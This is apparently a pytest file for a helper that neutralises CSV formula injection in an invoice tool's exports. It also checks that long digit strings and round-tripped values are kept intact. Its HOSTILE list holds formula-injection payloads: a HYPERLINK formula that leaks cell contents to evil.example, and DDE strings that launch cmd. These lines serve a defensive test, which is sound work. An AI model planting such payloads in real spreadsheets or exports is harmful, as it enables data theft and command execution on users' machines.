"""CSV formula injection (issue 12, item 12): no cell the CLI writes starts a
formula, whether it came from a file name, an attachment name or an
invoice number; plain numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from service.csv_safe import csv_text, safe_cell, spreadsheet_text

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "@SUM(1+1)*cmd|' /C calc'!A0",
           "=1+2+cmd|' /C calc'!A0", "+1+2", "-2+3+cmd|' /C calc'!A0", "\t=1+2", "\r=1+2", "\n=1",
           "\uff1d1+2"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_that_would_start_a_formula_is_quoted(cell):
    assert safe_cell(cell) == "'" + cell
    text = csv_text([{"name": cell, "n": 1}], ["name", "n"])
    assert text.startswith("\ufeff")   # the BOM: Excel then reads UTF-8
    (row,) = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert row["name"] == "'" + cell and row["n"] == "1"


@pytest.mark.parametrize("cell", ["-12.50", "+3", "0", "1234.00", "invoice.pdf", "发票 =1", "", None, 12, -3.5])
def test_plain_numbers_and_ordinary_text_are_left_alone(cell):
    assert safe_cell(cell) == cell


def test_every_csv_the_project_writes_goes_through_the_one_helper():
    """A new `--csv` that writes with the csv module directly would skip the quoting."""
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    direct = [str(p.relative_to(root)) for folder in ("agent", "service") for p in (root / folder).rglob("*.py")
              if p.name != "csv_safe.py" and re.search(r"^\s*(import csv|from csv import)", p.read_text(), re.M)]
    assert direct == [], f"these write CSV without service/csv_safe.py: {direct}"


@pytest.mark.parametrize("cell", [" =1+1", "\u3000=1+1", "\x0b=1+1", "\x0c@SUM(1)", "\u00a0+1+2", "  -2+3",
                                  "\u200b=1+1", "\ufeff=1+1", "\x1f=1", " \t \uff1d1", "\u2029-1+1"])
def test_a_trigger_after_leading_whitespace_or_invisible_characters_is_quoted(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", [" -12.50", "\u3000发票", " invoice.pdf"])
def test_leading_blanks_before_plain_text_or_a_number_are_left_alone(cell):
    assert safe_cell(cell) == cell


@pytest.mark.parametrize("cell, written", [
    ("26317000000000000000", '="26317000000000000000"'),   # 20-digit 数电 number: 2.6317E+19 otherwise
    ("031002200311", '="031002200311"'),                   # 发票代码 with a leading zero
    ("0123456789012345678", '="0123456789012345678"'),
    ("915001025636387295", '="915001025636387295"'),       # an 18-digit tax id of digits only
    ("78837327", "78837327"), ("1234567890123456"[:15], "123456789012345"), ("0", "0"),
    ("-12.50", "-12.50"), ("0.50", "0.50"), ("91500102MA5U5XXX7Q", "91500102MA5U5XXX7Q"), (12, 12),
    ("١" * 16, "١" * 16), ("０" * 16, "０" * 16),   # digits of other scripts: no spreadsheet number
])
def test_digits_a_spreadsheet_would_round_or_strip_stay_text(cell, written):
    text = csv_text([{"v": cell}], ["v"])
    (row,) = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert row["v"] == str(written)


def _read_back(cell: str) -> str:
    # How a program reading the CSV gets the value: one leading ' dropped,
    # a ="digits" constant unwrapped; nothing else is changed.
    if cell.startswith("'"):
        return cell[1:]
    if cell.startswith('="') and cell.endswith('"') and cell[2:-1].isdigit():
        return cell[2:-1]
    return cell


def test_every_cell_stands_for_one_value():
    # `=1+1` and `'=1+1` both came out as `'=1+1`.
    values = ["=1+1", "'=1+1", "''=1+1", "'", "'plain", "plain", "-12.50", "'-12.50", "@SUM(A1)", "'@x",
              "\t=1", "'\t=1", "26112000000000000101", '="26112000000000000101"', "'26112000000000000101",
              "0123", "'0123", " =1", "\u3000=1"]
    cells = [spreadsheet_text(safe_cell(v)) for v in values]
    assert len(set(cells)) == len(values), cells
    assert [_read_back(c) for c in cells] == values
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("'=1+1") == "''=1+1"


def test_a_csv_file_round_trips_what_it_was_given():
    rows = [{"buyer": v} for v in ("=1+1", "'=1+1", "'", "26112000000000000101", "北京'公司")]
    text = csv_text(rows, ["buyer"])
    assert text.startswith("\ufeff")
    read = [_read_back(r["buyer"]) for r in csv.DictReader(io.StringIO(text[1:]))]
    assert read == [r["buyer"] for r in rows]
